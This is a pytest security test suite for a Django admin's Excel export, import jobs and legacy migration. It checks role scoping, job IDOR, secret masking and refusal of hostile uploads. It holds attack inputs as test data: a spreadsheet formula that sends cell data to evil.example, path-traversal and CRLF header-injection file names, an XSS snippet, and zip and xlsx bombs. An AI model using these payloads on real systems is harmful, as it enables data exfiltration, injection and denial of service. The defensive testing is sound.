"""An attacker's probes of issue 13's new surfaces (the admin's 导出 Excel of every list, the import jobs' admin pages,
the file reader, the records and registry importers, legacy's import): each probe is one test, run as each role of
the cast, and pins what must hold — the export asks the list's own permission and scope and never carries a secret
or unmasked personal data; another user's job is a 404; bad files are Chinese refusals, never a 500."""

from __future__ import annotations

import datetime as dt
import io
from io import BytesIO

import pytest
from django.contrib import admin
from django.contrib.sessions.backends.db import SessionStore
from django.urls import NoReverseMatch, reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Role
from tests.factories import official
from tests.review.builders import valid_record

pytestmark = pytest.mark.django_db


def export_url(app_label: str, model_name: str) -> str:
    return reverse("admin:changelist_export", args=[app_label, model_name])


def content_of(response) -> bytes:
    return response.content if hasattr(response, "content") else b"".join(response.streaming_content)


def sheet_text(response) -> str:
    rows = load_workbook(BytesIO(content_of(response)), read_only=True).active.iter_rows(values_only=True)
    return "\n".join("\t".join("" if v is None else str(v) for v in row) for row in rows)


@pytest.fixture
def jilin_official(db):
    return official("jl_staff", Role.PROVINCIAL, "220000")


@pytest.fixture
def everyone(cast, jilin_official):
    return {**cast, "jilin_official": jilin_official}


@pytest.fixture
def secrets(everyone, firm_a):
    """Rows whose secrets must never leave in a file: passwords, API tokens, system key hashes, session data."""
    from rest_framework.authtoken.models import Token

    from portal.models import SystemToken, hash_key, new_key

    record = valid_record(firm_a)
    token = Token.objects.create(user=everyone["clerk_a"])
    key = new_key()
    SystemToken.objects.create(
        system=everyone["review_system"],
        name="资质审批系统",
        key_prefix=key[:10],
        key_hash=hash_key(key),
        expires_at=timezone.now() + dt.timedelta(days=30),
    )
    session = SessionStore()
    session["secret_marker"] = "SESSION-SECRET-MARKER"
    session.create()
    return {
        "record": record,
        "token": token.key,
        "key": key,
        "key_hash": hash_key(key),
        "session": session.session_key,
        "password": everyone["clerk_a"].password,
    }


def _lists():
    for model in admin.site._registry:
        try:
            url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        except NoReverseMatch:
            continue
        yield model, url


@pytest.mark.slow
def test_every_list_exports_only_for_who_may_see_the_list_and_never_a_secret(client, everyone, secrets):
    """For every registered model and every role: the export answers as the list does (refused when the list is),
    holds the rows the list counts for that user, and no file holds a password hash, an API token, a system key or
    its hash, or a session's data."""
    needles = [secrets["token"], secrets["key"], secrets["key_hash"], secrets["password"], "SESSION-SECRET-MARKER"]
    needles += [secrets["password"].split("$")[-1], secrets["session"]]
    walked = set()
    for who, user in everyone.items():
        client.force_login(user)
        for model, url in _lists():
            label = model._meta.label
            page = client.get(url)
            exported = client.get(export_url(model._meta.app_label, model._meta.model_name))
            if page.status_code != 200:
                assert exported.status_code in (302, 403), (who, label, exported.status_code)
                continue
            assert exported.status_code == 200, (who, label, exported.status_code)
            text = sheet_text(exported)
            assert len(text.split("\n")) - 1 == page.context["cl"].result_count, (who, label)
            for needle in needles:
                assert needle not in text, (who, label, needle)
            walked.add((who, label))
    assert ("superuser", "authtoken.TokenProxy") in walked
    assert ("superuser", "portal.SystemToken") in walked
    assert ("superuser", "accounts.User") in walked
    assert not any(who in ("clerk_a", "clerk_b", "review_system") for who, _label in walked)


@pytest.mark.parametrize(
    "app_label, model_name",
    [
        ("nope", "nothing"),
        ("sessions", "session"),
        ("auth", "permission"),
        ("admin", "logentry"),
        ("contenttypes", "contenttype"),
        ("accounts", "nothing"),
        ("transfer", "importjob-x"),
        ("pghistory", "context"),
    ],
)
def test_an_unknown_or_unregistered_list_is_a_404(client, superuser, app_label, model_name):
    client.force_login(superuser)
    response = client.get(export_url(app_label, model_name))
    assert response.status_code == 404


def test_an_export_url_with_path_characters_does_not_resolve(client, superuser):
    client.force_login(superuser)
    assert client.get("/admin/export/../accounts/user/").status_code == 404
    assert client.get("/admin/export/accounts%2Fuser/x/").status_code == 404


def test_the_public_and_a_clerk_get_no_export(client, clerk_a, secrets):
    assert client.get(export_url("accounts", "user")).status_code == 302  # to the admin's login
    client.force_login(clerk_a)
    for label in ("accounts/user", "authtoken/tokenproxy", "projects/record", "transfer/importjob"):
        response = client.get(export_url(*label.split("/")))
        assert response.status_code in (302, 403), label


def test_history_events_leave_with_personal_data_masked(client, superuser, firm_a):
    """pghistory's 事件 list shows each change's diff; its export masks the ID and phone numbers in it as every
    other export does (accounts.pii), for the superuser too."""
    from projects.models import RecordPerson

    record = valid_record(firm_a)
    person = RecordPerson.objects.filter(record=record).exclude(id_card="").first()
    old_id = person.id_card
    person.phone = "13812345678"
    person.id_card = "11010519491231002X"
    person.save()
    client.force_login(superuser)
    text = sheet_text(client.get(export_url("pghistory", "events")))
    assert "13812345678" not in text and "138****5678" in text
    assert "11010519491231002X" not in text and old_id not in text and "1101**********002X" in text


# --------------------------------------------------------------------------------------------------------------
# Upload abuse: every bad file is a Chinese refusal of the job (or a per-row problem), never a 500 or a stuck job
# --------------------------------------------------------------------------------------------------------------

ENTERPRISE_HEADER = "统一社会信用代码*,企业名称*,企业类型*,注册地区代码*,状态,地址,联系人,联系电话"


@pytest.fixture
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


def run_job(user, data: bytes, name: str = "企业.csv", mode: str = "all", key: str = "enterprises"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from transfer.jobs import start_import
    from transfer.models import JobStatus
    from transfer.tasks import run_import

    job = start_import(user=user, key=key, uploaded_file=SimpleUploadedFile(name, data), mode=mode)
    assert run_import(job.pk) in (JobStatus.DONE, JobStatus.FAILED)
    job.refresh_from_db()
    assert job.is_finished
    return job


def enterprise_csv(*cells: str, header: str = ENTERPRISE_HEADER) -> bytes:
    from tests.factories import make_uscc

    lines = [header]
    for n, cell in enumerate(cells):
        lines.append(f"{make_uscc(7000 + n)},{cell},设计,450103,存续,南宁市,张三,0771-2368335")
    return ("\n".join(lines) + "\n").encode("utf-8")


def _chinese(text: str) -> bool:
    return any("\u4e00" <= ch <= "\u9fff" for ch in text)


def _enterprises() -> int:
    from accounts.models import Enterprise

    return Enterprise.objects.count()


@pytest.mark.parametrize("mode", ["check", "all", "valid_rows"])
def test_a_nul_byte_in_a_cell_is_a_chinese_problem_of_that_cell(_media, provincial_staff, mode):
    """PostgreSQL refuses NUL in text: a cell holding one (past the first 4 KB, so the encoding check passes) is
    named by row and column, and nothing is written — never an unexpected error."""
    names = [f"南宁第{n}设计院有限公司" for n in range(80)] + ["坏\x00名字设计院"]
    before = _enterprises()
    job = run_job(provincial_staff, enterprise_csv(*names), mode=mode)
    assert "unexpected" not in job.message and "意外" not in job.message, job.message
    assert any(p["row"] == 82 and p["column"] == "企业名称" for p in job.problems), job.problems
    assert "空字符" in job.message
    if mode != "valid_rows":
        assert _enterprises() == before


def test_control_characters_in_a_cell_do_not_break_the_error_file(_media, provincial_staff):
    """A cell with a control character Excel cannot hold (\\x01) on a refused row: the error file is still made."""
    job = run_job(
        provincial_staff,
        enterprise_csv("南宁设计院有限公司", "坏\x01名字", "x" * 300),
        mode="valid_rows",
    )
    assert job.status == "done", job.message
    assert job.error_file


def test_html_or_svg_renamed_xlsx_is_refused_in_chinese(_media, provincial_staff):
    for data in (b"<html><script>alert(1)</script></html>", b'<svg xmlns="http://www.w3.org/2000/svg"/>'):
        job = run_job(provincial_staff, data, name="企业.xlsx")
        assert job.status == "failed" and _chinese(job.message), job.message


def test_a_utf16_csv_is_refused_with_advice(_media, provincial_staff):
    job = run_job(provincial_staff, enterprise_csv("南宁设计院有限公司").decode().encode("utf-16"))
    assert job.status == "failed" and "UTF-16" in job.message


def test_a_header_only_file_is_refused(_media, provincial_staff):
    job = run_job(provincial_staff, (ENTERPRISE_HEADER + "\n").encode())
    assert job.status == "failed" and _chinese(job.message)


def test_ten_thousand_columns_are_refused(_media, provincial_staff):
    header = ENTERPRISE_HEADER + "," + ",".join(f"c{n}" for n in range(10_000))
    job = run_job(provincial_staff, enterprise_csv("南宁设计院有限公司", header=header))
    assert job.status == "failed" and _chinese(job.message)


def test_a_ten_megabyte_cell_is_refused_naming_its_row(_media, provincial_staff, settings):
    settings.IMPORT_MAX_BYTES = 12 * 1024 * 1024
    job = run_job(provincial_staff, enterprise_csv("设" * (10 * 1024 * 1024 // 3)), mode="valid_rows")
    assert job.status == "failed" and "第 2 行" in job.message, job.message


def test_a_formula_payload_imports_as_text(_media, provincial_staff):
    """=HYPERLINK(…) in a name cell is refused or kept as text; it never becomes a formula of a later export."""
    from accounts.models import Enterprise

    payload = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    job = run_job(provincial_staff, enterprise_csv(f'"{payload.replace(chr(34), chr(34) * 2)}"'), mode="valid_rows")
    assert job.status == "done", job.message
    saved = Enterprise.objects.filter(name__contains="HYPERLINK").first()
    if saved is not None:
        from transfer.organisations import enterprise_importer
        from transfer.workbooks import export_workbook

        book = load_workbook(BytesIO(export_workbook(enterprise_importer, provincial_staff)))
        cells = [c for row in book.active.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
        assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("name", ["../../x.csv", "a\x00b.csv", "名" * 300 + ".csv", "..\\..\\x.csv", "x\r\nX: y.csv"])
def test_hostile_file_names_are_kept_harmless(_media, provincial_staff, name, tmp_path):
    """The stored file's name is random under imports/; the name kept for the user has no path, no NUL, at most
    255 characters; and the report's download header cannot be split by it."""
    from transfer.models import ImportJob

    job = run_job(provincial_staff, enterprise_csv("坏\x00名"), name=name)
    stored = job.upload.name
    assert stored.startswith("imports/") and ".." not in stored and "\x00" not in stored
    assert (tmp_path / stored).resolve().is_relative_to(tmp_path.resolve())
    saved = ImportJob.objects.get(pk=job.pk).original_name
    assert "/" not in saved and "\\" not in saved and "\x00" not in saved and len(saved) <= 255


@pytest.mark.parametrize(
    "value",
    [
        "1e309",
        "NaN",
        "-0",
        "inf",
        "0000-00-00",
        "9999-12-31",
        "91450100ma5ktest0x",
        "９１４５０１００ＭＡ５Ｌ６Ｌ８Ｋ８Ｘ",
    ],
)
def test_odd_numbers_dates_and_codes_are_row_problems_or_clean_values(_media, provincial_staff, value):
    """A strange value in the code, region or phone column is a Chinese problem of its cell, or a valid value
    normalised; never an unexpected error."""
    from tests.factories import make_uscc

    header = ENTERPRISE_HEADER
    lines = [header, f"{value},南宁设计院有限公司,设计,450103,存续,南宁市,张三,0771-2368335"]
    lines.append(f"{make_uscc(7100)},南宁二院有限公司,设计,{value},存续,南宁市,张三,{value}")
    job = run_job(provincial_staff, ("\n".join(lines) + "\n").encode(), mode="valid_rows")
    assert job.status == "done", job.message
    for problem in job.problems:
        assert _chinese(problem["message"]), problem


def test_a_zip_of_ten_thousand_tiny_members_is_refused(_media, provincial_staff):
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for n in range(10_000):
            archive.writestr(f"{n}.csv", "a")
    job = run_job(provincial_staff, buffer.getvalue(), name="业绩.zip", key="records")
    assert job.status == "failed" and _chinese(job.message), job.message


def test_an_xlsx_whose_strings_are_a_bomb_is_refused(_media, provincial_staff):
    """A tiny workbook whose sheet unpacks to 150 MB of one string repeated (openpyxl writes strings inline)."""
    import zipfile

    from tests.transfer.test_jobs import HEADER, rows, xlsx

    good = xlsx({"企业": [HEADER, *rows(1)]})
    source = zipfile.ZipFile(io.BytesIO(good))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.startswith("xl/worksheets/"):
                bomb = (
                    b'<row r="9"><c r="B9" t="inlineStr"><is><t>' + b"A" * (150 * 1024 * 1024) + b"</t></is></c></row>"
                )
                data = data.replace(b"</sheetData>", bomb + b"</sheetData>")
                assert bomb in data
            archive.writestr(info.filename, data)
    job = run_job(provincial_staff, buffer.getvalue(), name="企业.xlsx")
    assert job.status == "failed" and _chinese(job.message), job.message


def test_an_xlsx_with_an_external_link_is_read_as_values_only(_media, provincial_staff):
    """A formula pointing at another workbook or at a URL: its cached value is read, nothing is fetched."""
    from openpyxl import Workbook

    from tests.transfer.test_jobs import HEADER, rows

    workbook = Workbook()
    ws = workbook.active
    ws.title = "企业"
    ws.append(HEADER)
    row = rows(1)[0]
    row[1] = "=[1]Sheet1!A1"
    row[5] = '=WEBSERVICE("http://127.0.0.1:9/x")'
    ws.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    job = run_job(provincial_staff, buffer.getvalue(), name="企业.xlsx", mode="valid_rows")
    assert job.is_finished and (job.status == "failed" or job.problems), job.message


# --------------------------------------------------------------------------------------------------------------
# Job IDOR: another user's or another province's job, its progress, files and requeue are 404 in the admin
# --------------------------------------------------------------------------------------------------------------

JOB_VIEWS = ["change", "progress", "report", "errors"]


def job_url(view: str, job_id: int) -> str:
    return reverse(f"admin:transfer_importjob_{view}", args=[job_id])


@pytest.fixture
def staff_job(_media, provincial_staff):
    """A Guangxi staff's finished job with a report and an error file."""
    job = run_job(provincial_staff, enterprise_csv("南宁设计院有限公司", "x" * 300), mode="valid_rows")
    assert job.report and job.error_file
    return job


@pytest.mark.parametrize("who", ["jilin_official", "city_reviewer_x", "county_reviewer"])
def test_another_provinces_or_users_job_is_404_on_every_admin_page(client, everyone, staff_job, who):
    client.force_login(everyone[who])
    for view in JOB_VIEWS:
        response = client.get(job_url(view, staff_job.pk))
        assert response.status_code in (403, 404), (who, view, response.status_code)
    assert client.post(job_url("requeue", staff_job.pk)).status_code in (403, 404)


@pytest.mark.parametrize("who", ["clerk_a", "review_system"])
def test_clerks_and_systems_do_not_reach_the_admins_job_pages(client, everyone, staff_job, who):
    client.force_login(everyone[who])
    for view in [*JOB_VIEWS, "requeue"]:
        response = client.get(job_url(view, staff_job.pk))
        assert response.status_code in (302, 403, 404), (who, view)
        assert response.status_code != 200
    assert client.get(reverse("admin:transfer_importjob_changelist")).status_code in (302, 403)


def test_the_same_provinces_staff_see_the_job_and_its_files(client, provincial_staff, staff_job):
    client.force_login(provincial_staff)
    for view in JOB_VIEWS:
        assert client.get(job_url(view, staff_job.pk)).status_code == 200, view


def test_a_job_whose_file_is_gone_is_404_not_500(client, provincial_staff, staff_job):
    import os

    os.remove(staff_job.report.path)
    client.force_login(provincial_staff)
    assert client.get(job_url("report", staff_job.pk)).status_code == 404


@pytest.mark.parametrize("job_id", ["99999999999999999999", str(2**63), "0", "abc", "1e400", "%00", "1%2F..%2F2"])
def test_the_admins_job_pages_take_the_corpus_as_a_job_number_without_5xx(client, provincial_staff, job_id):
    client.force_login(provincial_staff)
    for view in ("change/", "progress/", "report/", "errors/", "history/", "delete/"):
        response = client.get(f"/admin/transfer/importjob/{job_id}/{view}")
        assert response.status_code in (302, 403, 404), (job_id, view, response.status_code)
    assert client.post(f"/admin/transfer/importjob/{job_id}/requeue/").status_code in (302, 403, 404)


@pytest.mark.parametrize("key", ["..", "nothing", "records%00", "x" * 300, "REGISTRY", "enterprises.."])
def test_an_importer_key_that_does_not_exist_is_404(client, provincial_staff, key):
    client.force_login(provincial_staff)
    for view in ("start", "template", "export"):
        response = client.get(f"/admin/transfer/importjob/{view}/{key}/")
        assert response.status_code == 404, (view, key, response.status_code)


@pytest.mark.parametrize("who", ["county_reviewer", "city_reviewer_x", "jilin_official"])
def test_an_official_starts_only_the_imports_they_may_use(client, everyone, who, _media):
    from transfer import jobs
    from transfer.book import importers

    user = everyone[who]
    client.force_login(user)
    allowed = {found.key for found in jobs.importers_for(user)}
    for key in importers():
        response = client.get(reverse("admin:transfer_importjob_start", args=[key]))
        assert response.status_code == (200 if key in allowed else 403), (who, key, response.status_code)


def test_a_forged_mode_is_a_form_error_and_no_job(client, provincial_staff, _media):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from transfer.models import ImportJob

    client.force_login(provincial_staff)
    for mode in ("drop_table", "", "ALL", "all\x00"):
        response = client.post(
            reverse("admin:transfer_importjob_start", args=["enterprises"]),
            {"file": SimpleUploadedFile("企业.csv", enterprise_csv("南宁设计院")), "mode": mode},
        )
        assert response.status_code == 200, mode
    assert not ImportJob.objects.exists()


def test_a_file_name_cannot_inject_a_header_into_the_download(client, provincial_staff, _media):
    from transfer.models import ImportJob

    job = run_job(
        provincial_staff,
        enterprise_csv("南宁设计院有限公司", "x" * 300),
        name='a";\r\nSet-Cookie: x=1;.csv',
        mode="valid_rows",
    )
    assert ImportJob.objects.get(pk=job.pk).original_name
    client.force_login(provincial_staff)
    for view in ("report", "errors"):
        response = client.get(job_url(view, job.pk))
        assert response.status_code == 200
        disposition = response["Content-Disposition"]
        assert "\r" not in disposition and "\n" not in disposition and "Set-Cookie" not in response.headers
        assert disposition.count('"') in (0, 2)


# --------------------------------------------------------------------------------------------------------------
# Records import: rows aimed at what the importer may not change
# --------------------------------------------------------------------------------------------------------------


def _records_book(records):
    from tests.transfer.test_records_import import xlsx_book

    return xlsx_book(records)


def _change_money(book, value: str = "999") -> None:
    from transfer import record_rows as rr

    main = rr.layout(rr.RECORDS)
    for _number, cells in book.tables[main.name].rows:
        cells[main.column("tender", "tender_money").header] = value


@pytest.mark.parametrize("status", ["submitted", "direct_review", "approved", "rejected", "fraud"])
@pytest.mark.parametrize("who", ["provincial_staff", "clerk_a"])
def test_g7_a_row_aimed_at_a_record_past_draft_is_refused_and_changes_nothing(everyone, firm_a, status, who):
    from projects.models import Record
    from tests.transfer.test_records_import import snapshot
    from transfer.book import Mode
    from transfer.records import records_importer

    firm_a.region_id = "450100"
    firm_a.save(update_fields=["region"])
    record = valid_record(firm_a)
    Record.objects.filter(pk=record.pk).update(status=status)
    book = _records_book(Record.objects.filter(pk=record.pk))
    _change_money(book)
    before = snapshot()
    for mode in (Mode.VALID_ROWS, Mode.ALL):
        report = records_importer.run(book, user=everyone[who], mode=mode)
        assert report.written == 0 and any(p.row == 2 for p in report.problems), (status, who, report.problems)
    assert snapshot() == before


def test_a_row_cannot_reach_a_working_copy_of_a_d_record(firm_a, clerk_a):
    """J7: an approved record's working copy (revision_of) is changed on its own page only; a file naming the
    record is refused (the record is approved) and the copy stays as it was."""
    from projects.models import Record, RecordStatus, Tender
    from transfer.book import Mode
    from transfer.records import records_importer

    record = valid_record(firm_a)
    Record.objects.filter(pk=record.pk).update(status=RecordStatus.APPROVED)
    copy = valid_record(firm_a)
    Record.objects.filter(pk=copy.pk).update(revision_of=record, project=record.project)
    money = Tender.objects.get(record=copy).tender_money
    book = _records_book(Record.objects.filter(pk=record.pk))
    _change_money(book)
    report = records_importer.run(book, user=clerk_a, mode=Mode.VALID_ROWS)
    assert report.written == 0 and report.problems
    assert Tender.objects.get(record=copy).tender_money == money
    assert Record.objects.get(pk=copy.pk).status == RecordStatus.DRAFT


def test_a_clerk_cannot_start_records_in_a_closed_campaign(firm_a, clerk_a):
    """G3: after Guangxi's port closed (2018-06-30) a clerk's file creates no record."""
    from zoneinfo import ZoneInfo

    import time_machine

    from projects.models import Record
    from tests.transfer.test_records_import import delete_all
    from transfer.book import Mode
    from transfer.records import records_importer

    with time_machine.travel(dt.datetime(2017, 12, 4, 10, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False):
        record = valid_record(firm_a)
        book = _records_book(Record.objects.filter(pk=record.pk))
    delete_all()
    with time_machine.travel(dt.datetime(2018, 7, 2, 10, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False):
        report = records_importer.run(book, user=clerk_a, mode=Mode.VALID_ROWS)
    assert report.written == 0 and report.problems
    assert all(_chinese(p.message) for p in report.problems)
    assert not Record.objects.exists()


def test_a_guangxi_official_cannot_import_a_project_located_in_jilin(firm_a, provincial_staff):
    from projects.models import Record
    from tests.transfer.test_records_import import delete_all
    from transfer.book import Mode
    from transfer.records import records_importer

    firm_a.region_id = "450100"
    firm_a.save(update_fields=["region"])
    record = valid_record(firm_a, jilin=True)
    book = _records_book(Record.objects.filter(pk=record.pk))
    delete_all()
    report = records_importer.run(book, user=provincial_staff, mode=Mode.VALID_ROWS)
    assert report.written == 0 and any(
        p.column == "项目所在地（县级行政区划代码）" or p.row == 2 for p in report.problems
    )
    assert not Record.objects.exists()


@pytest.mark.parametrize("who", ["county_reviewer", "city_reviewer_x", "review_system", "jilin_official"])
def test_officials_without_the_import_write_no_record(everyone, firm_a, who):
    from projects.models import Record
    from tests.transfer.test_records_import import delete_all
    from transfer.book import Mode
    from transfer.records import records_importer

    record = valid_record(firm_a)
    book = _records_book(Record.objects.filter(pk=record.pk))
    delete_all()
    report = records_importer.run(book, user=everyone[who], mode=Mode.ALL)
    assert report.written == 0 and report.problems
    assert not Record.objects.exists()


# --------------------------------------------------------------------------------------------------------------
# legacy import_legacy: accounts that exist already, old ids of another province
# --------------------------------------------------------------------------------------------------------------


@pytest.fixture
def legacy_file(db, tmp_path):
    from bench.legacy_file import write_legacy_file

    def write(n: int, name: str = "old.xlsx", **options):
        return write_legacy_file(tmp_path / name, n, **options)

    return write


def _legacy(path, user):
    from zoneinfo import ZoneInfo

    import time_machine

    from transfer.book import Mode, importer
    from transfer.files import read_bytes

    legacy_importer = importer("legacy")

    with time_machine.travel(dt.datetime(2025, 9, 30, 10, tzinfo=ZoneInfo("Asia/Shanghai")), tick=False):
        book = read_bytes(path.read_bytes(), sheets=legacy_importer.sheets, name=path.name)
        return legacy_importer.run(book, user=user, mode=Mode.VALID_ROWS)


@pytest.mark.parametrize("kind", ["clerk", "superuser", "provincial_superuser"])
def test_legacy_a_reviewer_row_naming_an_existing_account_never_changes_it(legacy_file, jilin_official, firm_a, kind):
    """The file's account name is an enterprise clerk's, the superuser's, or a superuser's who also holds a Jilin
    office: none of them becomes the migrated reviewer, changes password, role, groups or flags."""
    from accounts.models import User
    from legacy.models import LegacyReviewer
    from tests.factories import UserFactory, authority_for

    info = legacy_file(12)
    first = next(iter(info.reviewers.values()))
    username = first["账号"]
    if kind == "clerk":
        victim = UserFactory(username=username, role=Role.ENTERPRISE, enterprise=firm_a)
    elif kind == "superuser":
        victim = UserFactory(username=username, is_superuser=True)
    else:
        victim = UserFactory(
            username=username,
            is_superuser=True,
            role=Role.REVIEWER,
            authority=authority_for(first["行政区划代码"]),
        )
    before = {f.attname: getattr(victim, f.attname) for f in User._meta.concrete_fields}
    groups = set(victim.groups.values_list("pk", flat=True))
    report = _legacy(info.path, jilin_official)
    victim.refresh_from_db()
    assert {f.attname: getattr(victim, f.attname) for f in User._meta.concrete_fields} == before
    assert set(victim.groups.values_list("pk", flat=True)) == groups
    assert not LegacyReviewer.objects.filter(user=victim).exists()
    assert any(p.column == "账号" for p in report.problems), report.problems


def test_j2_legacy_old_ids_another_province_migrated_before_migrate_for_this_one_too(
    legacy_file, jilin_official, provincial_staff
):
    """Two provinces' old systems number their records and reviewers alike: the key is (province, old id), so
    Guangxi's "1001" stays Guangxi's and Jilin's "1001" migrates beside it (never "unchanged" with the Jilin record
    left out, never Guangxi's official as the Jilin reviewer)."""
    from legacy.models import LegacyRecord, LegacyReviewer
    from projects.models import Record

    info = legacy_file(10)
    old_record = info.old_ids[0]
    old_reviewer = next(iter(info.reviewers))
    guangxi = LegacyRecord.objects.create(
        province_id="450000",
        old_id=old_record,
        record=valid_record(EnterpriseFactoryGX()),
        old_status="approved",
        file_name="gx.xlsx",
        imported_at=timezone.now(),
    )
    gx_user = official("gx_old", Role.REVIEWER, "450103")
    LegacyReviewer.objects.create(
        province_id="450000", old_id=old_reviewer, user=gx_user, file_name="gx.xlsx", imported_at=timezone.now()
    )
    report = _legacy(info.path, jilin_official)
    assert not report.problems, report.problems
    assert LegacyRecord.objects.get(province_id="450000", old_id=old_record) == guangxi
    jilin = LegacyRecord.objects.get(province_id="220000", old_id=old_record)
    assert jilin.record != guangxi.record and jilin.record.project.county_id.startswith("22")
    assert LegacyRecord.objects.filter(province_id="220000").count() == 10
    assert LegacyReviewer.objects.get(province_id="450000", old_id=old_reviewer).user == gx_user
    assert LegacyReviewer.objects.get(province_id="220000", old_id=old_reviewer).user != gx_user
    assert not Record.objects.filter(transitions__actor=gx_user).exists()


def EnterpriseFactoryGX():
    from tests.factories import EnterpriseFactory

    return EnterpriseFactory(name="广西某设计院有限公司", region_id="450100")


def test_the_spot_check_csv_masks_the_tenders_id_number(client, provincial_staff, firm_a):
    """抽查导出 carries the national tables' fields; TBTenderInfo's ConstructorIDCard leaves masked, as the admin's
    pages and every other export show it (without a logged reveal nobody reads it whole)."""
    from projects.models import Record, RecordStatus, Tender

    record = valid_record(firm_a)
    Record.objects.filter(pk=record.pk).update(status=RecordStatus.APPROVED)
    Tender.objects.filter(record=record).update(constructor_id_card="11010519491231002X")
    client.force_login(provincial_staff)
    body = b"".join(client.get(reverse("admin:transfer_spot_check")).streaming_content).decode()
    assert "11010519491231002X" not in body and "1101**********002X" in body
